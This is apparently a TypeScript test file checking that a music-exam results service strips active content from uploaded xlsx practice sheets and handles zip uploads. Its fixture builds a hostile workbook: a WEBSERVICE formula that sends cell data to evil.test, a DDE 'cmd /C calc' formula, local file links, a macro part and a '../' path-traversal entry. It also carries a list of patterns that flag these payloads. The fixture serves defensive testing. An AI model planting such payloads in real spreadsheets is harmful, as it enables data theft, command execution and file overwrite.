// What is stored of an uploaded practice sheet, and the zip of sheets: a sheet
// carrying active content — an external link (file:///...), WEBSERVICE and DDE formulas, a
// hyperlink to a local file, a vbaProject.bin, a "../" entry — is stored as a clean copy of its
// values and served so to staff and members, never byte for byte; the zip the blank download gives
// uploads as it is (filled), and the answer says how many sheets were matched.
import { strToU8, unzipSync, zipSync } from "fflate";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ExcelJS, fillPracticeSheet, unzip, upload, vbaProjectPart } from "../../fixtures/workbooks.ts";
import { startTestApp, type TestApp } from "../../support/app.ts";
import { dexamEventWithLocations, practiceCandidate } from "../../support/fixtures.ts";
import { createWorld, type World } from "../../support/principals.ts";

let app: TestApp;
let world: World;
let token: string;
let practice: number;
const regs: number[] = [];
let blank: [name: string, data: Uint8Array][];

beforeAll(async () => {
  app = await startTestApp();
  world = await createWorld(app.db.prisma);
  token = await app.token(world.subjects["role:results_manage"]);
  const at = await dexamEventWithLocations(app.db.prisma, world.district1);
  practice = at.practice;
  for (const firstname of ["Anna", "Ben", "Cem"]) regs.push(await practiceCandidate(app.db.prisma, at, world.club1, firstname));
  const res = await app.rest("GET", `/v1/export/location/${practice}/dexam/blank_practice_sheets`, token);
  blank = Object.entries(unzip(res.raw));
});
afterAll(() => app.stop());

const sheetOf = (registrationId: number) => blank.find(([n]) => n.startsWith(`Praxisbogen_R${registrationId}_`))!;
const uploadSheets = (files: { name: string; data: Uint8Array }[]) =>
  upload(app, `/v1/registration/dexam/location/${practice}/practice_sheets`, token, "files", files);

/** A filled sheet with every kind of active content an examiner's spreadsheet program could leave in it. */
async function activeSheet(data: Uint8Array): Promise<Uint8Array> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(await fillPracticeSheet(data, 61.5)) as unknown as ArrayBuffer);
  const ws = wb.getWorksheet("Praxisbogen")!;
  ws.getCell("A28").value = "Sehr musikalisch";
  ws.getCell("A35").value = { formula: 'WEBSERVICE("http://evil.test/?p="&D21)', result: "Ort, Datum" } as ExcelJS.CellFormulaValue;
  ws.getCell("D35").value = { formula: "cmd|' /C calc'!A0", result: "Unterschrift Prüfer/in" } as ExcelJS.CellFormulaValue;
  ws.getCell("A13").value = { text: "Prüfungsstücke", hyperlink: "file:///C:/Users/pruefer/geheim.xlsx" };
  const entries = unzipSync(new Uint8Array(await wb.xlsx.writeBuffer()));
  const text = (name: string) => Buffer.from(entries[name]).toString("utf8");
  entries["xl/externalLinks/externalLink1.xml"] = strToU8(
    '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1"/></externalLink>',
  );
  entries["xl/externalLinks/_rels/externalLink1.xml.rels"] = strToU8(
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///C:/geheim/noten.xlsx" TargetMode="External"/></Relationships>',
  );
  entries["xl/_rels/workbook.xml.rels"] = strToU8(
    text("xl/_rels/workbook.xml.rels").replace(
      "</Relationships>",
      '<Relationship Id="rIdExt1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>',
    ),
  );
  entries["xl/vbaProject.bin"] = vbaProjectPart();
  entries["../../evil.txt"] = strToU8("evil");
  return zipSync(entries);
}

describe("what is stored of an uploaded practice sheet", () => {
  it("[R-RE009][R-RE010][R-API041] active content (external link, WEBSERVICE/DDE formulas, file link, vbaProject.bin, ../ entry) is not stored: staff and members get a clean copy of the values", async () => {
    const [name, data] = sheetOf(regs[0]);
    const uploaded = await activeSheet(data);
    const res = await uploadSheets([{ name, data: uploaded }]);
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    await app.db.prisma.eventLocation.update({ where: { id: practice }, data: { publishResults: true } });
    const served = [
      (await app.rest("GET", `/v1/export/registration/dexam/${regs[0]}/practice_sheet`, token)).raw,
      (await app.rest("GET", `/v1/export/registration/dexam/${regs[0]}/practice_sheet`, await app.token(world.subjects.member))).raw,
      Buffer.from(unzip((await app.rest("GET", `/v1/export/location/${practice}/dexam/practice_sheets`, token)).raw)[name]),
    ];
    for (const bytes of served) {
      expect(bytes.equals(Buffer.from(uploaded))).toBe(false);
      const entries = unzipSync(new Uint8Array(bytes));
      const names = Object.keys(entries);
      expect(names.filter((n) => /vbaProject|externalLink|\.\.|evil/i.test(n))).toEqual([]);
      const all = names.map((n) => Buffer.from(entries[n]).toString("utf8")).join("\n");
      for (const bad of ["file:///", "WEBSERVICE", "cmd|", "evil.test", 'TargetMode="External"', "<f>"]) expect(all, bad).not.toContain(bad);
      // what the examiner wrote stays, as values: the remark, the cached texts, the points; the ids for a new upload
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(bytes as unknown as ArrayBuffer);
      const ws = wb.getWorksheet("Praxisbogen")!;
      expect(ws.getCell("A28").value).toBe("Sehr musikalisch");
      expect(ws.getCell("A35").value).toBe("Ort, Datum");
      expect(ws.getCell("A13").value).toBe("Prüfungsstücke");
      expect(ws.getCell("D21").value).toBe(61.5);
      expect(ws.getCell("A1").isMerged).toBe(true);
      expect(wb.getWorksheet("Kennung")!.state).toBe("hidden");
    }
    // the clean copy is a practice sheet still: it uploads again
    const again = await uploadSheets([{ name, data: served[0] }]);
    expect(again.status, JSON.stringify(again.body)).toBe(200);
  });
});

describe("the zip of practice sheets", () => {
  it("[R-RE009][R-API052] the zip the blank download gives, filled, uploads as it is (also zipped again with a folder); the answer counts the matched sheets", async () => {
    const filled: Record<string, Uint8Array> = {};
    for (const [i, id] of regs.entries()) {
      const [name, data] = sheetOf(id);
      filled[name] = new Uint8Array(await fillPracticeSheet(data, 40 + i));
    }
    const res = await uploadSheets([{ name: "Blanko-Auswertungsboegen_L1.zip", data: zipSync(filled, { level: 0 }) }]);
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.uploaded).toBe(3);
    const points = await app.db.prisma.dexamRegistration.findMany({ where: { id: { in: regs } }, orderBy: { id: "asc" } });
    expect(points.map((r) => Number(r.practicePoints))).toEqual([40, 41, 42]);
    // zipped again by the computer's "compress" with a folder, a LIESMICH.txt and a macOS resource fork: the sheets are found
    const [name, data] = sheetOf(regs[1]);
    const refolded = zipSync({
      "Praxis/": new Uint8Array(0),
      [`Praxis/${name}`]: new Uint8Array(await fillPracticeSheet(data, 77)),
      "Praxis/LIESMICH.txt": strToU8("x"),
      [`__MACOSX/Praxis/._${name}`]: strToU8("x"),
    });
    const again = await uploadSheets([{ name: "Praxis.zip", data: refolded }]);
    expect(again.status, JSON.stringify(again.body)).toBe(200);
    expect(again.body.results).toEqual([{ registration_id: regs[1], practice_points: 77, file_name: name }]);
  });

  it("[R-RE009][R-BC002] a zip without sheets, a broken zip and a sheet of the zip with a problem are refused by name; nothing is stored", async () => {
    const before = await app.db.prisma.storedFile.count();
    const [name, data] = sheetOf(regs[2]);
    const cases: [string, Uint8Array, RegExp][] = [
      ["empty.zip", zipSync({ "LIESMICH.txt": strToU8("x") }), /„empty\.zip“: Die ZIP-Datei enthält keine Praxisbögen \(\.xlsx\)/],
      ["broken.zip", strToU8("PK\u0003\u0004 kaputt"), /„broken\.zip“: Die Datei ist beschädigt oder keine gültige ZIP-Datei/],
      ["unfilled.zip", zipSync({ [name]: data }), new RegExp(`„${name}“: Die Punktzahl der Praxisprüfung fehlt`)],
    ];
    for (const [zipName, zip, message] of cases) {
      const res = await uploadSheets([{ name: zipName, data: zip }]);
      expect(res.status, zipName).toBe(400);
      expect(res.body.error.message, zipName).toMatch(message);
    }
    expect(await app.db.prisma.storedFile.count()).toBe(before);
  });
});
